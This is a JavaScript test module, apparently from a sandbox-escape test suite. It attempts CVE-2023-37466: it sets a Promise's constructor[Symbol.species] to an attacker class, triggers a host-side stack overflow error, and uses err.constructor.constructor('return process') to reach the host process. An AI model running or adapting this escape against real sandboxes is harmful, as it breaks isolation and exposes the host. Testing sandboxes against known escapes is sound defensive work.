// Escape attempt: CVE-2023-37466 / GHSA-qvjj-29qf-hp7p: a Promise whose constructor[Symbol.species] is attacker-controlled receives a host rejection in its executor.
// Runs with ../escape-harness.js prepended (pwn, attempt).

module.exports = {
  name: 'escape-promise-species',
  description: 'sandbox escape attempt: promise-species',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    async function fn() { (function stack() { new Error().stack; stack(); })(); }
    const p = fn();
    p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) { executor((x) => x, (err) => { attempt(notes, "species err", () => pwn(err.constructor.constructor("return process")(), marker, notes, "species rejection")); }); } } };
    attempt(notes, "then", () => p.then());
    const q = ctx.services();
    q.constructor = { [Symbol.species]: class Fake2 { constructor(executor) { executor((v) => { attempt(notes, "v", () => pwn(v.constructor.constructor("return process")(), marker, notes, "species value")); }, () => {}); } } };
    attempt(notes, "then2", () => q.then());
    await q;
    return { summary: notes.join(' | '), data: notes };
  },
};
